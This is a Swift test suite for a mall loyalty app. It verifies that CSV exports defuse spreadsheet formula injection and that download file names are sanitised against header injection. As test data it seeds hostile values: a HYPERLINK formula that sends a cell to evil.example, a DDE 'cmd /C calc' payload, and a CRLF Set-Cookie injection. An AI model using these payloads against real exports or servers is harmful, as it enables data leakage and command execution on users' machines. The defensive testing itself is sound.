import Foundation
import MallVIPCore
import MallVIPStore
@testable import MallVIPWeb
import SQLKit
import Testing

/// Issue 14, finding 7 (CSV): every CSV the product writes goes through `CSVFormat`, so a hostile name stays text
/// when a spreadsheet opens the file.
@Suite("CSV injection")
struct CSVInjectionTests {
    @Test("the reward settlement CSV defuses a counter, brand and gift named as formulas (it had its own cell function)")
    func rewardSettlement() async throws {
        try await withTestApp { t in
            try await t.seedCatalogue(supplier: "C0001")
            let (card, _) = try await t.memberWithPoints("13800000021", 3_000)
            #expect(try await t.redeem("CSV-1", card: card, item: "LADDER-GIFT", listPriceFen: 19_900).status == .created)
            try await t.store.sql.raw("""
                UPDATE counters SET name = \(bind: "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"), brand = \(bind: "@SUM(1+1)")
                WHERE code = 'C0001'
                """).run()
            try await t.store.sql.raw("UPDATE reward_items SET name_zh = \(bind: "\t-2+3") WHERE code = 'LADDER-GIFT'").run()
            let manager = try await t.console(as: "boss", .manager)
            let csv = try await manager.get("/console/rewards/settlement.csv?month=2026-11")
            #expect(csv.status == .ok)
            #expect(csv.body.hasPrefix(CSVFormat.bom + "counter,counterName,"))
            #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""点击"")","#), "\(csv.body)")
            #expect(csv.contains(",'@SUM(1+1),"))
            #expect(csv.contains(",'\t-2+3,"))
            #expect(csv.contains(",199.00,199.00\r\n"), "amounts stay numbers")
            for bad in [",=HYPERLINK", ",\"=HYPERLINK", ",@SUM", ",\t-2"] { #expect(!csv.contains(bad), "\(bad)") }
        }
    }

    @Test("the members export defuses a name starting with a tab or CR (the old cell function missed them) and keeps numbers")
    func membersExport() async throws {
        try await withTestApp { t in
            let a = try await t.enrolMember(phone: "13800000022", name: "甲")
            let b = try await t.enrolMember(phone: "13800000023", name: "乙")
            try await t.store.sql.raw("UPDATE members SET name = \(bind: "\t=cmd|' /C calc'!A0") WHERE id = \(bind: try await t.memberId(card: a))").run()
            try await t.store.sql.raw("UPDATE members SET name = \(bind: "\r=1+1") WHERE id = \(bind: try await t.memberId(card: b))").run()
            let manager = try await t.console(as: "m1", .manager)
            let csv = try await manager.get("/console/exports/members.csv")
            #expect(csv.status == .ok)
            #expect(csv.contains(",'\t=cmd|' /C calc'!A0,"), "\(csv.body)")
            #expect(csv.contains(",\"'\r=1+1\","))
            #expect(!csv.contains(",\t=") && !csv.contains(",\"\r="))
        }
    }
}

@Suite("Security: download file names")
struct DownloadFilenameTests {
    @Test("a file name with a quote, CR/LF or non-ASCII text reaches Content-Disposition as safe characters only")
    func attachmentNameIsSafe() {
        let header = CSVText.attachment("report-top-2026-11-MALL\"\r\nSet-Cookie: x=1;成都.csv")
        #expect(header == "attachment; filename=\"report-top-2026-11-MALL___Set-Cookie__x_1___.csv\"")
        #expect(CSVText.attachment("members-2026-12-07.csv") == "attachment; filename=\"members-2026-12-07.csv\"")
    }
}
